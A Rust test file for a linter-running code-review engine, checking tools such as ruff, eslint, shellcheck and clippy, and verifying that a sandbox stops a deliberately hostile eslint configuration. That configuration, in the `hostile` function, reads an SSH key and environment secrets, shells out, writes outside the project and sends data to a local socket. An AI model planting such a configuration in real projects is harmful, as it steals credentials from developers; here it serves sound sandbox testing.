//! Do the real tools run, is what they say understood, and does nothing get out of the sandbox?
//!
//! A tool that is missing is said so on stderr and its test skipped; with APPRENTICE_REQUIRE_TOOLS=1 it is a failure.
//! `scripts/test-tools.sh FOLDER` installs them.
#![expect(clippy::disallowed_methods, reason = "tests build projects on disk and read the environment")]

use std::{
    collections::BTreeMap,
    env, fs,
    io::Read as _,
    net::TcpListener,
    path::{Path, PathBuf},
    sync::{Arc, OnceLock},
    time::{Duration, Instant},
};

use engine::{
    change::{Change, FileChange, Origin, Versions},
    check::{
        linter::{self, Listed, Request, Sandbox, Session, Trust, Workshop},
        rule::RuleSet,
    },
    config::{Config, LintersConfig, SandboxMode},
    edit::Applicability,
    finding::Finding,
    notice::{Gravity, Notice},
    pipeline::Engine,
    review::{Baseline, Review, Standing},
    source::{Memory, RepoPath, SourceFile, Sources},
};
use tempfile::TempDir;

/// A project in memory and a workshop for it.
struct Bench {
    dir: TempDir,
    files: Memory,
    base: Memory,
    workshop: Workshop,
    config: LintersConfig,
}

fn path(text: &str) -> RepoPath {
    RepoPath::new(text).expect("a path")
}

fn memory(files: &[(&str, &str)]) -> Memory {
    Memory(files.iter().map(|(name, text)| (path(name), text.as_bytes().into())).collect())
}

impl Bench {
    fn new(files: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().expect("a directory");
        let root = dir.path().canonicalize().expect("a path");
        let workshop = Workshop::here(Some(root.join("project")), root.join("cache"), root.join("scratch"), Trust::Own);
        let mut config = Config::default().linters;
        config.timeout_seconds = 60;
        Self { dir, files: memory(files), base: Memory::default(), workshop, config }
    }

    fn only(mut self, linter: &str) -> Self {
        self.config.only = vec![linter.to_owned()];
        self
    }

    fn texts(&self) -> Vec<SourceFile> {
        let text = |(path, bytes): (&RepoPath, &Arc<[u8]>)| SourceFile::new(path.clone(), bytes.clone(), u64::MAX).ok();
        self.files.0.iter().filter_map(text).collect()
    }

    fn request<'a>(&'a self, files: &'a [SourceFile], sandbox: Option<&'a Sandbox>) -> Request<'a> {
        let linters = linter::builtin().expect("linters");
        Request {
            linters,
            config: &self.config,
            workshop: &self.workshop,
            sandbox,
            files,
            new: &self.files,
            base: &self.base,
        }
    }

    fn run(&self) -> (Vec<Finding>, Vec<Notice>) {
        linter::run(self.request(&self.texts(), None))
    }

    /// Checks, with the text each is on; fails on a notice of failure.
    fn said(&self) -> Vec<(String, String)> {
        let (findings, notices) = self.run();
        assert!(notices.iter().all(|notice| notice.gravity != Gravity::Failure), "{notices:#?}");
        findings.iter().map(|finding| (finding.check.to_string(), self.text_of(finding))).collect()
    }

    fn text_of(&self, finding: &Finding) -> String {
        let bytes = &self.files.0[&finding.path][finding.span.bytes()];
        String::from_utf8_lossy(bytes).into_owned()
    }

    fn review(&self, config: Config) -> Review {
        let files = self.files.0.keys().map(|path| FileChange::whole(path.clone(), None)).collect();
        self.engine(config).review(self.versions(files))
    }

    fn engine(&self, mut config: Config) -> Engine {
        config.linters = self.config.clone();
        let engine = Engine::new(config, RuleSet::builtin(), Baseline::default()).expect("an engine");
        engine.with_workshop(self.workshop.clone())
    }

    fn versions(&self, files: Vec<FileChange>) -> Versions {
        Versions {
            change: Change { origin: Origin::All, files },
            old: Arc::new(self.base.clone()),
            new: Arc::new(self.files.clone()),
            notices: Vec::new(),
        }
    }
}

/// Whether the tool is there. Says so where it is not, and fails where it has to be.
fn have(tool: &str) -> bool {
    // Asked once: each tool that is found is started for its version.
    static FOUND: OnceLock<Vec<String>> = OnceLock::new();
    let ask = || {
        let bench = Bench::new(&[]);
        let linters = linter::builtin().expect("linters");
        let listed = linter::list(linters, &bench.config, &bench.workshop, &bench.files).expect("a list");
        listed.into_iter().filter(|entry| entry.found.is_some()).map(|entry| entry.name).collect()
    };
    let found = FOUND.get_or_init(ask).iter().any(|name| name == tool);
    if !found {
        assert!(
            env::var_os("APPRENTICE_REQUIRE_TOOLS").is_none_or(|value| value != "1"),
            "`{tool}` is required and not found: run scripts/test-tools.sh FOLDER and put FOLDER/bin on PATH"
        );
        eprintln!("SKIPPED: `{tool}` is not installed (scripts/test-tools.sh installs it)");
    }
    found
}

fn pairs(said: &[(String, String)]) -> Vec<(&str, &str)> {
    said.iter().map(|(check, text)| (check.as_str(), text.as_str())).collect()
}

/// Ruff's defaults grow from version to version; these stay.
const ERRORS: &str = "lint.select = ['F']\n";

#[test]
fn ruff_is_understood_and_its_fix_is_proven() {
    if !have("ruff") {
        return;
    }
    let bench =
        Bench::new(&[("src/a.py", "import os\nx = \"é😀\"; y = undefined_name\n"), ("ruff.toml", ERRORS)]).only("ruff");
    assert_eq!(pairs(&bench.said()), [("ruff/F401", "os"), ("ruff/F821", "undefined_name")]);
    let review = bench.review(Config::default());
    let unused = review.findings.iter().find(|reviewed| &*reviewed.finding.check.0 == "ruff/F401").expect("F401");
    let patch = unused.patch.as_ref().unwrap_or_else(|| panic!("not proven: {:?}", unused.unproven));
    assert_eq!(patch.applicability(), Applicability::Safe);
    let patched = patch.apply(&bench.files.0[&path("src/a.py")]).expect("applies");
    assert_eq!(String::from_utf8(patched).expect("text"), "x = \"é😀\"; y = undefined_name\n");
}

#[test]
fn a_fix_that_does_not_help_is_not_proven() {
    if !have("ruff") {
        return;
    }
    let bench = Bench::new(&[("a.py", "import os\n"), ("ruff.toml", ERRORS)]).only("ruff");
    let texts = bench.texts();
    let session = Session::open(bench.request(&texts, None));
    let patched = |text: &str| SourceFile::new(path("a.py"), text.as_bytes().into(), u64::MAX).expect("text");
    assert_eq!(session.recheck("ruff", &patched("import os\n")).expect("runs").len(), 1);
    assert_eq!(session.recheck("ruff", &patched("import os\nprint(os)\n")).expect("runs"), []);
    assert!(session.recheck("mypy", &patched("")).is_err());
}

#[test]
fn mending_makes_the_proven_fixes_of_linters() {
    if !have("ruff") {
        return;
    }
    let bench = Bench::new(&[("a.py", "import os\nimport sys\nprint(sys.argv)\n"), ("ruff.toml", ERRORS)]).only("ruff");
    let versions = bench.versions(vec![FileChange::whole(path("a.py"), None)]);
    let (mended, notices) = bench.engine(Config::default()).mend(&versions, Applicability::Safe);
    assert_eq!(String::from_utf8_lossy(&mended[0].after), "import sys\nprint(sys.argv)\n", "{notices:?}");
}

#[test]
fn the_configuration_of_the_version_is_obeyed() {
    if !have("ruff") {
        return;
    }
    let code = "import os\n";
    let quiet = "lint.select = ['F82']\n";
    assert_eq!(Bench::new(&[("a.py", code), ("ruff.toml", quiet)]).only("ruff").said(), []);
    // A change by others cannot quiet its judge: the base has no such file.
    let mut bench = Bench::new(&[("a.py", code), ("ruff.toml", quiet)]).only("ruff");
    bench.workshop.trust = Trust::Untrusted;
    assert_eq!(pairs(&bench.said()), [("ruff/F401", "os")]);
    bench.base = memory(&[("ruff.toml", quiet)]);
    assert_eq!(bench.said(), []);
}

#[test]
fn eslint_runs_the_projects_own_configuration() {
    if !have("eslint") {
        return;
    }
    let config = "import rules from './rules.mjs';\nexport default [{ rules }];\n";
    let bench = Bench::new(&[
        ("eslint.config.mjs", config),
        ("rules.mjs", "export default { 'no-debugger': 'error', 'no-extra-boolean-cast': 'warn' };\n"),
        ("src/a.js", "const é = '😀'; debugger;\nif (!!é) { f(); }\n"),
    ])
    .only("eslint");
    assert_eq!(pairs(&bench.said()), [("eslint/no-debugger", "debugger;"), ("eslint/no-extra-boolean-cast", "!!é")]);
    let review = bench.review(Config::default());
    let cast = review.findings.iter().find(|reviewed| &*reviewed.finding.check.0 == "eslint/no-extra-boolean-cast");
    let patch = cast.expect("the cast").patch.as_ref().expect("a proven patch");
    let patched = patch.apply(&bench.files.0[&path("src/a.js")]).expect("applies");
    assert!(String::from_utf8_lossy(&patched).contains("if (é) {"));
}

#[test]
fn a_built_in_finding_and_the_linters_own_are_told_once() {
    if !have("eslint") {
        return;
    }
    let config = "export default [{ rules: { 'no-debugger': 'error' } }];\n";
    let bench = Bench::new(&[("eslint.config.mjs", config), ("a.js", "debugger;\n")]).only("eslint");
    let review = bench.review(Config::default());
    let standing = |check: &str| {
        let reviewed = review.findings.iter().find(|reviewed| &*reviewed.finding.check.0 == check);
        reviewed.unwrap_or_else(|| panic!("{check}: {:?}", review.findings)).standing.clone()
    };
    assert_eq!(standing("javascript/debugger-statement"), Standing::Told);
    assert_eq!(standing("eslint/no-debugger"), Standing::Repeated { by: "javascript/debugger-statement".into() });
}

#[test]
fn shellcheck_is_understood_and_its_fix_is_proven() {
    if !have("shellcheck") {
        return;
    }
    let script = "#!/bin/bash\necho é; cp $1 \"$2\"\n";
    let bench = Bench::new(&[("bin/run", script)]).only("shellcheck");
    assert_eq!(pairs(&bench.said()), [("shellcheck/SC2086", "$1")]);
    let review = bench.review(Config::default());
    let told =
        review.findings.iter().find(|reviewed| &*reviewed.finding.check.0 == "shellcheck/SC2086").expect("SC2086");
    if let Some(patch) = &told.patch {
        assert_eq!(
            patch.apply(script.as_bytes()).expect("applies"),
            "#!/bin/bash\necho é; cp \"$1\" \"$2\"\n".as_bytes()
        );
    } else {
        assert!(matches!(told.standing, Standing::Repeated { .. }), "{told:?}");
    }
}

const WORKFLOW: &str = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      \
    - run: echo ${{ github.event.pull_request.title }}\n";

#[test]
fn zizmor_and_actionlint_read_workflows_and_nothing_else() {
    for tool in ["zizmor", "actionlint"] {
        if !have(tool) {
            continue;
        }
        let bench = Bench::new(&[(".github/workflows/ci.yml", WORKFLOW), ("other.yml", WORKFLOW)]).only(tool);
        let (findings, notices) = bench.run();
        assert!(!findings.is_empty(), "{notices:?}");
        assert!(findings.iter().all(|finding| finding.path.as_str().ends_with("ci.yml")), "{findings:?}");
        let injected = |finding: &Finding| bench.text_of(finding).contains("github.event.pull_request.title");
        assert!(findings.iter().any(injected), "{:?}", findings.iter().map(|f| bench.text_of(f)).collect::<Vec<_>>());
        assert!(findings.iter().all(|finding| !finding.check.0.matches(tool).count() > 1));
    }
}

#[test]
fn clippy_builds_in_the_sandbox_and_its_fix_is_proven() {
    if !have("clippy") {
        return;
    }
    let bench = Bench::new(&[
        ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
        ("src/lib.rs", "pub fn é(x: &str) -> bool {\n    let é = 1;\n    let _ = é; x.len() == 0\n}\n"),
    ])
    .only("clippy");
    let start = Instant::now();
    let said = bench.said();
    assert_eq!(pairs(&said), [("clippy/clippy::len_zero", "x.len() == 0")]);
    eprintln!("clippy, nothing built: {:?}", start.elapsed());
    let start = Instant::now();
    let review = bench.review(Config::default());
    let found = review.findings.iter().find(|reviewed| &*reviewed.finding.check.0 == "clippy/clippy::len_zero");
    let found = found.expect("len_zero");
    assert!(found.patch.is_some(), "{:?}", found.unproven);
    eprintln!("clippy, from the cache, with one proof: {:?}", start.elapsed());
}

/// A tool, the project it is given, and a check it has to make on a text of it.
type Case = (&'static str, &'static [(&'static str, &'static str)], (&'static str, &'static str));

#[test]
fn other_tools_are_understood_where_they_are_installed() {
    let cases: &[Case] = &[
        ("bandit", &[("a.py", "x = 'é'; eval(input())\n")], ("bandit/B307", "eval")),
        ("yamllint", &[("a.yml", "a: 1\na: 2\n")], ("yamllint/key-duplicates", "a")),
        ("typos", &[("a.md", "é the langauge\n")], ("typos/typo", "langauge")),
        ("tsc", &[("tsconfig.json", "{}"), ("a.ts", "export const é: number = 'x';\n")], ("tsc/TS2322", "é")),
        ("biome", &[("a.js", "export const é = 1; debugger;\n")], ("biome/suspicious/noDebugger", "debugger;")),
        ("mypy", &[("mypy.ini", "[mypy]\n"), ("a.py", "e: int = 'x'\n")], ("mypy/assignment", "'x'")),
        ("pylint", &[("a.py", "é = 1; x = nothing\n")], ("pylint/E0602", "nothing")),
        ("go-vet", &[("go.mod", "module x\n"), ("a.go", "package x\n\nfunc F(e int) { e = e }\n")], ("go-vet/go", "e")),
        (
            "gofmt",
            &[("go.mod", "module x\n"), ("a.go", "package x\n\nfunc F( ) {}\n")],
            ("gofmt/format", "func F( ) {}"),
        ),
        (
            "semgrep",
            &[
                (
                    ".semgrep.yml",
                    "rules:\n- {id: no-eval, pattern: eval(...), message: no, severity: ERROR, languages: [python], fix: f()}\n",
                ),
                ("a.py", "é = '😀'; eval(x)\n"),
            ],
            ("semgrep/no-eval", "eval(x)"),
        ),
    ];
    for (tool, files, (check, text)) in cases {
        if !have(tool) {
            continue;
        }
        let start = Instant::now();
        let said = Bench::new(files).only(tool).said();
        eprintln!("{tool}: {:?}", start.elapsed());
        let has =
            said.iter().any(|(found, on)| found.ends_with(check.rsplit('/').next().unwrap_or(check)) && on == text);
        assert!(has, "{tool}: wanted {check} on `{text}`, got {said:?}");
    }
}

#[test]
fn a_result_is_computed_once_for_the_same_bytes() {
    if !have("ruff") {
        return;
    }
    let mut bench =
        Bench::new(&[("a.py", "import os\n"), ("b.py", "import sys\n"), ("ruff.toml", ERRORS)]).only("ruff");
    assert_eq!(bench.said().len(), 2);
    // A limit nothing can keep shows who still has to run.
    bench.config.timeout_seconds = 0;
    assert_eq!(bench.said().len(), 2, "all from the cache");
    bench.files.0.insert(path("b.py"), b"import re\n".as_slice().into());
    let (findings, notices) = bench.run();
    assert!(
        notices.iter().any(|notice| notice.gravity == Gravity::Failure && notice.what.contains("longer")),
        "{notices:?}"
    );
    assert_eq!(findings.len(), 0);
}

#[test]
fn a_linter_that_is_configured_and_missing_is_a_note_and_one_asked_for_a_failure() {
    let mut bench = Bench::new(&[("a.py", "x = 1\n"), ("ruff.toml", "")]);
    bench.workshop.environment = BTreeMap::from([("HOME".into(), bench.dir.path().into())]);
    let gravity = |bench: &Bench| {
        let (_, notices) = bench.run();
        notices.iter().find(|notice| notice.about == "ruff").map(|notice| notice.gravity)
    };
    if Path::new("/usr/bin/ruff").exists() || Path::new("/usr/local/bin/ruff").exists() {
        eprintln!("SKIPPED: ruff is where every program is");
        return;
    }
    assert_eq!(gravity(&bench), Some(Gravity::Note));
    assert_eq!(gravity(&bench.only("ruff")), Some(Gravity::Failure));
}

#[test]
fn the_list_says_what_is_found_and_why_it_would_run() {
    let bench = Bench::new(&[("a.py", "x = 1\n"), ("mypy.ini", "[mypy]\n")]);
    let listed = linter::list(linter::builtin().expect("linters"), &bench.config, &bench.workshop, &bench.files)
        .expect("a list");
    let of = |name: &str| listed.iter().find(|entry| entry.name == name).cloned().expect("listed");
    assert!(of("mypy").because.contains("`mypy.ini` asks for it"), "{:?}", of("mypy"));
    assert_eq!(of("eslint").because, "there is no file it reads");
    assert_eq!(of("pylint").because, "no configuration asks for it");
    assert!(of("eslint").runs_code && !of("ruff").runs_code);
    let found: Vec<&Listed> = listed.iter().filter(|entry| entry.found.is_some()).collect();
    for entry in &found {
        eprintln!("{}: {:?} {:?}", entry.name, entry.found, entry.version);
    }
    if have("ruff") {
        assert!(of("ruff").eligible && of("ruff").version.is_some_and(|version| version.contains("ruff")));
    }
}

/// An `eslint.config.mjs` that tries everything a thief would, and says what came of it in a lint message.
fn hostile(home: &Path, outside: &Path, port: u16) -> String {
    format!(
        r#"
import fs from 'node:fs';
import net from 'node:net';
import {{ execSync }} from 'node:child_process';
const out = [];
const attempt = (name, act) => {{ try {{ out.push(name + '=' + act()); }} catch (error) {{ out.push(name + '!' + error.code); }} }};
attempt('env', () => process.env.SECRET_TOKEN ?? 'none');
attempt('parent', () => fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1').includes('CARGO_MANIFEST_DIR='));
attempt('home', () => fs.readFileSync({home:?} + '/.ssh-key', 'utf8'));
attempt('write', () => {{ fs.writeFileSync({outside:?} + '/written', 'x'); return 'done'; }});
attempt('work', () => {{ fs.writeFileSync('src/a.js', '// owned'); return 'done'; }});
attempt('shell', () => execSync('cat ' + {home:?} + '/.ssh-key', {{ encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }}));
try {{ execSync('node -e "setTimeout(() => require(\'fs\').writeFileSync(\'{late}\', \'x\'), 1500)" &', {{ stdio: 'ignore' }}); }} catch {{}}
await new Promise((done) => {{
  const socket = net.connect({port}, '127.0.0.1', () => {{ socket.end('secret', () => socket.destroy()); out.push('socket=open'); done(); }});
  socket.on('error', (error) => {{ out.push('socket!' + error.code); done(); }});
}});
const rule = {{ create: (context) => ({{ Program(node) {{ context.report({{ node, message: out.join(' ') }}); }} }}) }};
export default [{{ plugins: {{ spy: {{ rules: {{ report: rule }} }} }}, rules: {{ 'spy/report': 'error' }} }}];
"#,
        late = outside.join("late").display(),
    )
}

/// What the hostile configuration got, by attempt, and whether anything arrived outside.
fn robbery(sandbox: Option<&Sandbox>, mode: SandboxMode) -> (String, bool, Vec<PathBuf>) {
    let dir = tempfile::tempdir().expect("a directory");
    let root = dir.path().canonicalize().expect("a path");
    let (home, outside) = (root.join("home"), root.join("outside"));
    for folder in [&home, &outside] {
        fs::create_dir_all(folder).expect("a folder");
    }
    fs::write(home.join(".ssh-key"), "the-secret-key").expect("a file");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("non-blocking");
    let port = listener.local_addr().expect("an address").port();
    let mut bench =
        Bench::new(&[("eslint.config.mjs", &hostile(&home, &outside, port)), ("src/a.js", "f();\n")]).only("eslint");
    bench.config.sandbox = mode;
    bench.workshop.environment.insert("SECRET_TOKEN".into(), "the-secret-token".into());
    let texts = bench.texts();
    let (findings, notices) = linter::run(bench.request(&texts, sandbox));
    let told = findings.iter().find(|finding| &*finding.check.0 == "eslint/spy/report");
    let told = told.unwrap_or_else(|| panic!("the configuration did not run: {notices:?}")).what.clone();
    std::thread::sleep(Duration::from_secs(3));
    let arrived = listener.accept().is_ok_and(|(mut stream, _)| {
        let mut text = String::new();
        stream.set_nonblocking(false).is_ok() && stream.read_to_string(&mut text).is_ok()
    });
    let left = fs::read_dir(&outside).expect("a folder").flatten().map(|entry| entry.path()).collect();
    (told, arrived, left)
}

#[test]
fn nothing_gets_out_of_any_sandbox() {
    if !have("eslint") {
        return;
    }
    let found = linter::detect();
    eprintln!("sandboxes that hold here: {:?}; refused: {:?}", found.works, found.refused);
    if found.works.is_empty() {
        eprintln!("SKIPPED: no sandbox holds on this machine: {:?}", found.refused);
    }
    for sandbox in &found.works {
        let (told, arrived, left) = robbery(Some(sandbox), SandboxMode::Auto);
        eprintln!("{}: {told}", sandbox.name());
        for stolen in ["the-secret", "parent=true", "write=done", "work=done", "socket=open"] {
            assert!(!told.contains(stolen), "{}: {stolen}: {told}", sandbox.name());
        }
        assert!(told.contains("env=none"), "the attempt was made: {told}");
        assert!(!arrived, "{}: a connection came through", sandbox.name());
        assert_eq!(left, Vec::<PathBuf>::new(), "{}: something was written outside", sandbox.name());
    }
}

#[test]
fn without_a_sandbox_all_of_it_gets_out() {
    if !have("eslint") {
        return;
    }
    let (told, arrived, left) = robbery(None, SandboxMode::Off);
    eprintln!("none: {told}");
    let parent = if env::var_os("CARGO_MANIFEST_DIR").is_some() { "parent=true" } else { "" };
    for taken in [parent, "home=the-secret-key", "shell=the-secret-key", "write=done", "work=done", "socket=open"] {
        assert!(told.contains(taken), "the negative control is blunt: {taken}: {told}");
    }
    assert!(arrived && !left.is_empty(), "the negative control is blunt");
    // Even then the environment is not handed over.
    assert!(told.contains("env=none"), "{told}");
}

#[test]
fn code_of_others_does_not_run_without_a_sandbox() {
    if !have("eslint") {
        return;
    }
    let config = "export default [{ rules: { 'no-debugger': 'error' } }];\n";
    let mut bench = Bench::new(&[("a.js", "debugger;\n")]).only("eslint");
    bench.base = memory(&[("eslint.config.mjs", config)]);
    bench.workshop.trust = Trust::Untrusted;
    bench.config.sandbox = SandboxMode::Off;
    let (findings, notices) = bench.run();
    assert_eq!(findings, []);
    assert!(notices.iter().any(|notice| notice.what.contains("not run on a change by others")), "{notices:?}");
    if !linter::detect().works.is_empty() {
        bench.config.sandbox = SandboxMode::Auto;
        assert_eq!(pairs(&bench.said()), [("eslint/no-debugger", "debugger;")]);
    }
}

#[test]
fn the_scratch_directory_is_gone_afterwards() {
    if !have("ruff") {
        return;
    }
    let bench = Bench::new(&[("a.py", "import os\n"), ("ruff.toml", ERRORS)]).only("ruff");
    assert_eq!(bench.said().len(), 1);
    let left: Vec<_> = fs::read_dir(&bench.workshop.scratch_parent).expect("made").flatten().collect();
    assert!(left.is_empty(), "{left:?}");
    assert!(bench.files.list().expect("a list").len() == 2);
}
